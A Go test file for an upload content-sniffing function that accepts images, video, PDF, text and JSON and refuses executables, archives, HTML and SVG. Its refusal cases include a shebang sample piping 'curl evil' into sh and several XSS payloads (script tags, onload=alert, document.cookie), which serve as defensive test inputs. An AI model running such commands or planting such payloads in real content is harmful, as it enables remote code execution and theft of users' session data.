package attachments_test

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"github.com/yoanbernabeu/oopsie/internal/apperr"
	"github.com/yoanbernabeu/oopsie/internal/attachments"
)

// Real file openings, enough for each format's signature.
var (
	pngBytes  = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89")
	jpegBytes = []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
	gifBytes  = []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04")
	webpBytes = []byte("RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00\x30\x01\x00\x9d\x01\x2a")
	pdfBytes  = []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")
	webmBytes = []byte("\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\x82\x84webm")
	// Brand mp42: what DetectContentType recognises itself.
	mp4Bytes = ftyp("mp42", "mp42", "isom")
	// Brand isom with no "mp4…" compatible brand, as browsers' MediaRecorder
	// and many phones write: DetectContentType misses it.
	isomBytes = ftyp("isom", "isom", "iso2", "avc1")
	avifBytes = ftyp("avif", "avif", "mif1", "miaf")
	movBytes  = ftyp("qt  ", "qt  ")

	peBytes    = []byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00")
	elfBytes   = []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00")
	zipBytes   = []byte("PK\x03\x04\x14\x00\x00\x00\x08\x00photo.png")
	gzipBytes  = []byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03")
	utf16Bytes = []byte("\xff\xfeh\x00i\x00\n\x00")
	logText    = []byte("2024-05-01T10:00:00Z ERROR checkout failed: café ☕\n\x1b[31mstack:\x1b[0m\tat pay()\r\n")
)

// ftyp builds the leading box of an ISO base media file.
func ftyp(major string, compatible ...string) []byte {
	size := 16 + 4*len(compatible)
	b := []byte{0, 0, 0, byte(size)}
	b = append(b, "ftyp"+major+"\x00\x00\x02\x00"...)
	for _, c := range compatible {
		b = append(b, c...)
	}
	return append(b, "\x00\x00\x00\x08free"...)
}

func TestSniffAccepts(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		data []byte
		want string
	}{
		{"png", pngBytes, attachments.TypePNG},
		{"jpeg", jpegBytes, attachments.TypeJPEG},
		{"gif", gifBytes, attachments.TypeGIF},
		{"webp", webpBytes, attachments.TypeWebP},
		{"pdf", pdfBytes, attachments.TypePDF},
		{"webm", webmBytes, attachments.TypeWebM},
		{"mp4 brand mp42", mp4Bytes, attachments.TypeMP4},
		{"mp4 brand isom", isomBytes, attachments.TypeMP4},
		{"log with ANSI colours and UTF-8", logText, attachments.TypeText},
		{"text with BOM", append([]byte("\xef\xbb\xbf"), "hello"...), attachments.TypeText},
		{"syslog line is not markup", []byte("<13>Jan  1 00:00:00 host app: boom\n"), attachments.TypeText},
		{"text mentioning a tag", []byte("the <svg> failed to render\n"), attachments.TypeText},
		{"json object", []byte(`{"console":[{"level":"error","msg":"x"}]}`), attachments.TypeJSON},
		{"json array with whitespace", []byte("\n  [1, 2, 3]\n"), attachments.TypeJSON},
		{"broken json is text", []byte(`{"a": 1`), attachments.TypeText},
		{"long text", bytes.Repeat([]byte("line of log\n"), 10_000), attachments.TypeText},
	} {
		got, err := attachments.Sniff(tc.data)
		if err != nil {
			t.Errorf("%s: Sniff = %v, want %s", tc.name, err, tc.want)
			continue
		}
		if got != tc.want {
			t.Errorf("%s: Sniff = %q, want %q", tc.name, got, tc.want)
		}
	}
}

func TestSniffRefuses(t *testing.T) {
	t.Parallel()
	longThenBinary := append(bytes.Repeat([]byte("a"), 600), 0x00, 0x01)
	for _, tc := range []struct {
		name   string
		data   []byte
		reason string // part of the message
	}{
		{"windows executable", peBytes, "Windows executable"},
		{"elf", elfBytes, "ELF"},
		{"mach-o 32 big endian", []byte("\xfe\xed\xfa\xce\x00\x00\x00\x07"), "Mach-O"},
		{"mach-o 64 big endian", []byte("\xfe\xed\xfa\xcf\x00\x00\x00\x07"), "Mach-O"},
		{"mach-o 32 little endian", []byte("\xce\xfa\xed\xfe\x07\x00\x00\x00"), "Mach-O"},
		{"mach-o 64 little endian", []byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01"), "Mach-O"},
		{"mach-o universal", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x02"), "Mach-O"},
		{"shebang", []byte("#!/bin/sh\ncurl evil | sh\n"), "script"},
		{"html", []byte("<!DOCTYPE html><html><script>alert(1)</script></html>"), "HTML"},
		{"html after whitespace", []byte("\n\n  <html><body onload=alert(1)>"), "HTML"},
		{"bare script tag", []byte("<script>alert(document.cookie)</script>"), "HTML"},
		{"svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), "SVG"},
		{"svg with xml prolog", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`), "SVG"},
		{"svg doctype", []byte(`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>`), "SVG"},
		{"svg after BOM", []byte("\xef\xbb\xbf  <svg onload=alert(1)>"), "SVG"},
		{"zip", zipBytes, "application/zip"},
		{"gzip", gzipBytes, "gzip"},
		{"avif is not video", avifBytes, "not recognised"},
		{"quicktime", movBytes, "not recognised"},
		{"utf-16 text", utf16Bytes, "UTF-8"},
		{"invalid utf-8", []byte("caf\xe9 au lait"), "UTF-8"},
		{"binary after the first 512 bytes", longThenBinary, "binary"},
		{"random bytes", []byte{0x00, 0x13, 0x37, 0x42, 0x99}, "not recognised"},
	} {
		got, err := attachments.Sniff(tc.data)
		var ae *apperr.Error
		if !errors.As(err, &ae) || ae.Kind != apperr.UnsupportedMediaType {
			t.Errorf("%s: Sniff = %q, %v; want an UnsupportedMediaType error", tc.name, got, err)
			continue
		}
		if !strings.Contains(ae.Message, tc.reason) {
			t.Errorf("%s: message %q does not mention %q", tc.name, ae.Message, tc.reason)
		}
	}
}

func TestSniffEmptyIsInvalid(t *testing.T) {
	t.Parallel()
	_, err := attachments.Sniff(nil)
	if k := apperr.KindOf(err); k != apperr.Invalid {
		t.Fatalf("Sniff(empty) kind = %v (%v), want Invalid", k, err)
	}
}

// Every type Sniff returns must be one the download serves as is.
func TestSniffResultsAreAccepted(t *testing.T) {
	t.Parallel()
	for _, data := range [][]byte{pngBytes, jpegBytes, gifBytes, webpBytes, pdfBytes, webmBytes, mp4Bytes, isomBytes, logText, []byte("{}")} {
		got, err := attachments.Sniff(data)
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, a := range attachments.Accepted {
			found = found || a == got
		}
		if !found {
			t.Errorf("Sniff returned %q, which is not in Accepted", got)
		}
	}
}
